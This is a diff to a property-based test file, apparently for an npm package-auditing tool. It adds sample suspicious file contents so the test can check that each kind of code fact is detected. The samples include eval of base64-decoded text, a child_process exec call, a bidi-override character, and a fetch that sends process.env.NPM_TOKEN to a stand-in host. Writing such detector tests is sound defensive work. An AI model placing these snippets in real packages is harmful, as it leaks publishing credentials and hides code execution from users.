@@ -202,6 +202,15 @@ test('the package as the lockfile and the tree say', () => {
 // What lazy fetching rests on: a baseline's contents can only take facts away, and only in the fields that are listed.
 
 const group = fc.dictionary(fc.constantFrom('a', 'b', 'c'), fc.constantFrom('1', '2', 'o/r'), { maxKeys: 3 })
+/** Something of every kind of fact about code. */
+const codes = [
+  'eval(a)',
+  'function (',
+  "require('child_process').exec(command)",
+  "fetch('https://a.example.test/x', { body: process.env.NPM_TOKEN })",
+  "eval(Buffer.from(text, 'base64').toString())",
+  '// \u202e turned around',
+]
 const release = fc
   .record({
     scripts: fc.dictionary(
@@ -213,7 +222,10 @@ const release = fc
     peerDependencies: group,
     files: fc.dictionary(
       fc.constantFrom('x.js', 'y.js', 'z.js', 'binding.gyp', 'package.md'),
-      fc.constantFrom('', '1', "require('./y')", "require('./z')", "require('a')", '{"name":"tiny","version":"0.1.0"}'),
+      fc.constantFrom(
+        ...['', '1', "require('./y')", "require('./z')", "require('a')", '{"name":"tiny","version":"0.1.0"}'],
+        ...codes,
+      ),
     ),
     oddities: fc.array(
       fc.record({
@@ -233,8 +245,8 @@ const release = fc
 const kinds = fc.constantFrom<PackageKind>('registry', 'git', 'bundled')
 
 function factsOf(change: Change): Fact[] {
-  const { package: of, baseline: against, publication, lock, ...lists } = change
-  return [of, against, publication, lock, ...Object.values(lists).flat()]
+  const { package: of, baseline: against, publication, provenance, lock, ...lists } = change
+  return [of, against, publication, provenance, lock, ...Object.values(lists).flat()]
 }
 
 /** A fact without the fields that may depend on the baseline's contents. */
@@ -243,8 +255,9 @@ function independent(fact: Fact): string {
   return JSON.stringify(Object.entries(fact).filter(([field]) => !dependent.includes(field)))
 }
 
+/** Against the baseline's contents; two records call something else their status. */
 function statusOf(fact: Fact): string {
-  return 'status' in fact && fact.record !== 'baseline' ? fact.status : ''
+  return 'status' in fact && fact.record !== 'baseline' && fact.record !== 'provenance' ? fact.status : ''
 }
 
 /** The fields that are at their highest against nothing. */
@@ -294,6 +307,11 @@ describe('what depends on the contents of a baseline', () => {
         }
       }),
     )
+  })
+
+  test('the releases above have facts of every kind about code', () => {
+    const { code } = contents(Object.fromEntries(codes.map((text, index) => [`${index}.js`, text])))
+    expect(Object.entries(code).filter(([, facts]) => facts.length === 0)).toEqual([])
   })
 
   test('every record has its entry', () => {
